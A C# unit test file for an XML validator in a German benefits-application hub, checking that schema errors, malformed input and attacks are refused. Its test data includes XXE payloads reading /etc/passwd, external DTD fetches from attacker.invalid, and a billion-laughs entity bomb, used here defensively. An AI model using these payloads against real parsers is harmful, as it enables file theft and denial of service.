using System.Text;
using System.Xml;
using IntegrationHub.Problems;
using IntegrationHub.Simulators.EfA;
using IntegrationHub.Validation;
using static IntegrationHub.UnitTests.Validation.HubTestData;

namespace IntegrationHub.UnitTests.Validation;

/// <summary>Parsing untrusted application XML: what is accepted, and which problem a sender sees otherwise.</summary>
public sealed class XmlContractValidatorTests
{
    private const string ProhibitedDtd = "DTDs are prohibited";

    private static XmlDocument Load(byte[] xml, long maxCharacters = MaxXmlCharacters) => XmlContractValidator.LoadAndValidate(xml, maxCharacters);

    private static SubmissionProblemException Refused(byte[] xml, ProblemType expected, long maxCharacters = MaxXmlCharacters) =>
        Problem(() => Load(xml, maxCharacters), expected);

    /// <summary>A valid Wohngeld application with <paramref name="insert"/> placed right after the XML declaration.</summary>
    private static byte[] WithPrologue(string insert)
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 3).Xml);
        var end = text.IndexOf("?>", StringComparison.Ordinal) + 2;
        return Bytes(text[..end] + "\n" + insert + text[end..]);
    }

    private static int LineOf(byte[] xml, string marker) =>
        Text(xml).Split('\n').Select((line, i) => (line, i)).First(l => l.line.Contains(marker, StringComparison.Ordinal)).i + 1;

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(17)]
    [InlineData(4242)]
    public void Valid_Wohngeld_application_loads(int seed)
    {
        var application = ApplicationFactory.Wohngeld(Ars, Plz, Ort, seed);

        var doc = Load(application.Xml);

        doc.DocumentElement!.LocalName.Should().Be(ApplicationFactory.WohngeldRoot);
        doc.DocumentElement.NamespaceURI.Should().Be(DemoServices.WohngeldSchemaUri);
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(17)]
    [InlineData(4242)]
    public void Valid_Sozialhilfe_application_loads(int seed)
    {
        var application = ApplicationFactory.Sozialhilfe(Ars, Plz, Ort, seed);

        var doc = Load(application.Xml);

        doc.DocumentElement!.LocalName.Should().Be(ApplicationFactory.SozialhilfeRoot);
        doc.DocumentElement.NamespaceURI.Should().Be(DemoServices.SozialhilfeSchemaUri);
    }

    [Fact]
    public void Whitespace_of_the_application_is_preserved()
    {
        var xml = ApplicationFactory.Wohngeld(Ars, Plz, Ort, 5).Xml;

        var doc = Load(xml);

        doc.PreserveWhitespace.Should().BeTrue();
        doc.DocumentElement!.OuterXml.Should().Contain("\n  <ihc:nachrichtenkopf>", "the indentation the citizen's service sent is kept");
    }

    [Fact]
    public void Schema_invalid_value_is_SchemaInvalid_naming_element_and_line_but_not_the_value()
    {
        var application = ApplicationFactory.WohngeldSchemaInvalid(Ars, Plz, Ort, 7, SchemaDefect.InvalidPostleitzahl);
        var badPlz = Plz[..^1] + "A";
        Text(application.Xml).Should().Contain($">{badPlz}<", "the factory's defect is the PLZ");

        var ex = Refused(application.Xml, ProblemTypes.SchemaInvalid);

        ex.Message.Should().Contain("postleitzahl")
            .And.Contain($"line {LineOf(application.Xml, "<ihc:postleitzahl>")},")
            .And.Contain("value does not match the pattern")
            .And.NotContain(badPlz)
            .And.NotContain(Plz);
        foreach (var value in PersonalValues(application.Xml))
        {
            ex.Message.Should().NotContain(value);
        }
    }

    [Fact]
    public void Missing_required_element_is_SchemaInvalid_required_element_missing()
    {
        var application = ApplicationFactory.WohngeldSchemaInvalid(Ars, Plz, Ort, 8, SchemaDefect.MissingMiete);

        var ex = Refused(application.Xml, ProblemTypes.SchemaInvalid);

        ex.Message.Should().Contain("required element missing").And.Contain("line ");
        foreach (var value in PersonalValues(application.Xml))
        {
            ex.Message.Should().NotContain(value);
        }
    }

    [Fact]
    public void Value_outside_the_code_list_is_SchemaInvalid_without_the_value()
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 9).Xml);
        var tampered = Bytes(text.Replace("<ihc:umfang>MELDEDATEN</ihc:umfang>", "<ihc:umfang>GEHEIMWERT</ihc:umfang>", StringComparison.Ordinal));

        var ex = Refused(tampered, ProblemTypes.SchemaInvalid);

        ex.Message.Should().Contain("umfang").And.Contain("value not in the code list").And.NotContain("GEHEIMWERT");
    }

    [Fact]
    public void Many_schema_errors_are_reported_at_most_ten_times()
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 10).Xml);
        var extra = string.Concat(Enumerable.Range(0, 25).Select(i => $"<ihc:unbekannt{i}>x</ihc:unbekannt{i}>"));
        var tampered = Bytes(text.Replace("</ihc:antragsdatum>", "</ihc:antragsdatum>" + extra, StringComparison.Ordinal));

        var ex = Refused(tampered, ProblemTypes.SchemaInvalid);

        ex.Message.Split("; ").Should().HaveCountLessThanOrEqualTo(10);
    }

    public static TheoryData<string, string> DtdAttacks => new()
    {
        { "internal subset", "<!DOCTYPE wg:wohngeld.antrag.0001 [<!ELEMENT wg:wohngeld.antrag.0001 ANY>]>" },
        { "external DTD", "<!DOCTYPE wg:wohngeld.antrag.0001 SYSTEM \"http://attacker.invalid/evil.dtd\">" },
        { "external general entity", "<!DOCTYPE wg:wohngeld.antrag.0001 [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" },
        { "external parameter entity", "<!DOCTYPE wg:wohngeld.antrag.0001 [<!ENTITY % ext SYSTEM \"http://attacker.invalid/evil.dtd\"> %ext;]>" },
        {
            "billion laughs",
            "<!DOCTYPE wg:wohngeld.antrag.0001 [<!ENTITY lol \"lol\">" +
            string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat(i == 1 ? "&lol;" : $"&lol{i - 1};", 10))}\">")) +
            "]>"
        },
    };

    [Theory]
    [MemberData(nameof(DtdAttacks))]
    public void Any_DTD_is_XmlMalformed_DTDs_are_prohibited(string attack, string doctype)
    {
        var xml = WithPrologue(doctype);

        var ex = Refused(xml, ProblemTypes.XmlMalformed);

        ex.Message.Should().Contain(ProhibitedDtd, attack).And.NotContain("passwd").And.NotContain("attacker.invalid");
    }

    [Fact]
    public void Entity_reference_inside_the_application_is_refused_as_DTD()
    {
        var text = Text(WithPrologue("<!DOCTYPE wg:wohngeld.antrag.0001 [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>"));
        var xml = Bytes(text.Replace("<ihc:ort>", "<ihc:ort>&xxe;", StringComparison.Ordinal));

        Refused(xml, ProblemTypes.XmlMalformed).Message.Should().Contain(ProhibitedDtd);
    }

    [Fact]
    public void Predefined_entities_and_character_references_are_allowed()
    {
        // MaxCharactersFromEntities is 1; that must not hit &amp; or &#252; in ordinary text.
        var application = ApplicationFactory.Wohngeld(Ars, Plz, "Bad Soden & Neuenhain <Taunus>", 11);
        var text = Text(application.Xml).Replace("Wohngeldbeh\u00f6rde", "Wohngeldbeh&#246;rde", StringComparison.Ordinal);
        text.Should().Contain("&amp;").And.Contain("&#246;");

        var doc = Load(Bytes(text));

        doc.DocumentElement!.InnerText.Should().Contain("Bad Soden & Neuenhain <Taunus>").And.Contain("Wohngeldbeh\u00f6rde");
    }

    [Fact]
    public void Document_over_the_character_limit_is_XmlMalformed_naming_the_size_limit()
    {
        var xml = ApplicationFactory.Wohngeld(Ars, Plz, Ort, 12).Xml;

        var ex = Refused(xml, ProblemTypes.XmlMalformed, maxCharacters: xml.Length / 2);

        ex.Message.Should().Contain("size limit");
    }

    [Fact]
    public void Document_at_the_character_limit_loads()
    {
        var xml = ApplicationFactory.Wohngeld(Ars, Plz, Ort, 12).Xml;
        var characters = Encoding.UTF8.GetCharCount(xml);

        Load(xml, maxCharacters: characters).DocumentElement.Should().NotBeNull();
    }

    [Fact]
    public void Ten_thousand_levels_of_nesting_inside_the_application_are_rejected_without_crash()
    {
        const int depth = 10_000;
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 13).Xml);
        var nested = string.Concat(Enumerable.Repeat("<ihc:tief>", depth)) + string.Concat(Enumerable.Repeat("</ihc:tief>", depth));
        var xml = Bytes(text.Replace("</ihc:antragsdatum>", "</ihc:antragsdatum>" + nested, StringComparison.Ordinal));

        var ex = Refused(xml, ProblemTypes.SchemaInvalid);

        ex.Message.Should().Contain("tief");
    }

    [Fact]
    public void Ten_thousand_levels_of_nesting_of_an_undeclared_root_are_rejected_without_crash()
    {
        const int depth = 10_000;
        var xml = Bytes(string.Concat(Enumerable.Repeat("<a>", depth)) + string.Concat(Enumerable.Repeat("</a>", depth)));

        Refused(xml, ProblemTypes.SchemaInvalid);
    }

    [Fact]
    public void Processing_instructions_are_dropped_and_the_document_stays_valid()
    {
        var text = Text(WithPrologue("<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.invalid/x.xsl\"?>"));
        var xml = Bytes(text.Replace("<ihc:antragsdatum>", "<?efa-intern trace-id=\"abc\"?><ihc:antragsdatum>", StringComparison.Ordinal));

        var doc = Load(xml);

        doc.SelectNodes("//processing-instruction()")!.Count.Should().Be(0, "the reader ignores processing instructions");
        doc.ChildNodes.OfType<XmlProcessingInstruction>().Should().BeEmpty();
        doc.OuterXml.Should().NotContain("attacker.invalid").And.NotContain("efa-intern");
    }

    [Fact]
    public void Comments_are_kept_and_do_not_affect_validity()
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 14).Xml);
        var xml = Bytes(text.Replace("<ihc:antragsdatum>", "<!-- Hinweis des Onlinedienstes --><ihc:antragsdatum>", StringComparison.Ordinal));

        var doc = Load(xml);

        doc.SelectNodes("//comment()")!.Count.Should().Be(1);
    }

    [Fact]
    public void Schema_location_hints_are_not_followed()
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 15).Xml);
        var xml = Bytes(text.Replace(
            "xmlns:wg=",
            "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:integrationhub:xoev:wohngeld:1.0 http://attacker.invalid/ih-wohngeld.xsd\" xmlns:wg=",
            StringComparison.Ordinal));

        Load(xml).DocumentElement!.LocalName.Should().Be(ApplicationFactory.WohngeldRoot);
    }

    [Fact]
    public void Root_in_an_unknown_namespace_is_SchemaInvalid()
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 16).Xml);
        var xml = Bytes(text.Replace(DemoServices.WohngeldSchemaUri, "urn:integrationhub:xoev:wohngeld:9.9", StringComparison.Ordinal));

        var ex = Refused(xml, ProblemTypes.SchemaInvalid);

        ex.Message.Should().StartWith($"line 2, position 2 ({ApplicationFactory.WohngeldRoot}): ");
        ex.Message.Split("; ").Should().HaveCount(10, "every element is unknown, and at most ten findings are reported");
        foreach (var value in PersonalValues(xml))
        {
            ex.Message.Should().NotContain(value);
        }
    }

    [Fact]
    public void Root_in_an_unknown_namespace_is_reported_as_not_declared()
    {
        // The most common sender mistake (a schema version the hub does not know) should name its cause.
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 16).Xml);
        var xml = Bytes(text.Replace(DemoServices.WohngeldSchemaUri, "urn:integrationhub:xoev:wohngeld:9.9", StringComparison.Ordinal));

        var ex = Refused(xml, ProblemTypes.SchemaInvalid);

        ex.Message.Split("; ")[0].Should().Be($"line 2, position 2 ({ApplicationFactory.WohngeldRoot}): element or attribute not declared in the schema");
    }

    [Fact]
    public void Element_not_declared_in_the_schema_is_SchemaInvalid_not_declared()
    {
        var text = Text(ApplicationFactory.Wohngeld(Ars, Plz, Ort, 16).Xml);
        // A root element the schema set does not declare, in a namespace it knows.
        var xml = Bytes(text
            .Replace("wg:" + ApplicationFactory.WohngeldRoot, "wg:wohngeld.antrag.0099", StringComparison.Ordinal)
            .Replace("<ihc:code>" + ApplicationFactory.WohngeldRoot, "<ihc:code>wohngeld.antrag.0099", StringComparison.Ordinal));

        var ex = Refused(xml, ProblemTypes.SchemaInvalid);

        ex.Message.Should().Contain("wohngeld.antrag.0099").And.Contain("not declared");
    }

    [Theory]
    [InlineData("")]
    [InlineData("Hallo Amt, ich beantrage Wohngeld.")]
    [InlineData("{\"antrag\":\"wohngeld\"}")]
    [InlineData("<wg:wohngeld.antrag.0001 xmlns:wg=\"urn:integrationhub:xoev:wohngeld:1.0\">")]
    [InlineData("<a></b>")]
    public void Data_that_is_not_XML_is_XmlMalformed(string data)
    {
        var ex = Refused(Bytes(data), ProblemTypes.XmlMalformed);

        ex.Message.Should().Contain("not well-formed");
        if (data.Length > 0)
        {
            ex.Message.Should().NotContain(data);
        }
    }

    [Fact]
    public void Truncated_application_is_XmlMalformed_with_its_line()
    {
        var xml = ApplicationFactory.Wohngeld(Ars, Plz, Ort, 18).Xml;

        var ex = Refused(xml[..(xml.Length * 2 / 3)], ProblemTypes.XmlMalformed);

        ex.Message.Should().MatchRegex(@"\(line \d+\)");
        foreach (var value in PersonalValues(xml))
        {
            ex.Message.Should().NotContain(value);
        }
    }

    [Fact]
    public void UTF8_byte_order_mark_is_accepted()
    {
        var xml = ApplicationFactory.Sozialhilfe(Ars, Plz, Ort, 19).Xml;
        byte[] withBom = [0xEF, 0xBB, 0xBF, .. xml];

        Load(withBom).DocumentElement!.LocalName.Should().Be(ApplicationFactory.SozialhilfeRoot);
    }

    [Fact]
    public void Invalid_UTF8_bytes_are_XmlMalformed()
    {
        var xml = ApplicationFactory.Wohngeld(Ars, Plz, Ort, 20).Xml;
        var umlaut = Encoding.UTF8.GetBytes("\u00f6"); // in "Wohngeldbehörde"
        var at = xml.AsSpan().IndexOf(umlaut);
        at.Should().BePositive();
        var broken = xml.ToArray();
        broken[at + 1] = 0x28; // lead byte without its continuation byte

        var ex = Refused(broken, ProblemTypes.XmlMalformed);

        ex.Message.Should().Contain("not well-formed");
    }

    [Fact]
    public void Validation_is_safe_to_run_in_parallel()
    {
        // The consumer validates several submissions at once against the one shared schema set.
        var documents = Enumerable.Range(0, 16)
            .Select(i => i % 2 == 0 ? ApplicationFactory.Wohngeld(Ars, Plz, Ort, i).Xml : ApplicationFactory.Sozialhilfe(Ars, Plz, Ort, i).Xml)
            .ToArray();
        var invalid = ApplicationFactory.WohngeldSchemaInvalid(Ars, Plz, Ort, 3).Xml;
        var failures = 0;

        Parallel.For(0, 400, new ParallelOptions { MaxDegreeOfParallelism = 8 }, i =>
        {
            try
            {
                if (i % 5 == 4)
                {
                    try
                    {
                        Load(invalid);
                        Interlocked.Increment(ref failures);
                    }
                    catch (SubmissionProblemException e) when (e.Type == ProblemTypes.SchemaInvalid)
                    {
                    }
                }
                else
                {
                    Load(documents[i % documents.Length]);
                }
            }
            catch (Exception)
            {
                Interlocked.Increment(ref failures);
            }
        });

        failures.Should().Be(0);
    }
}
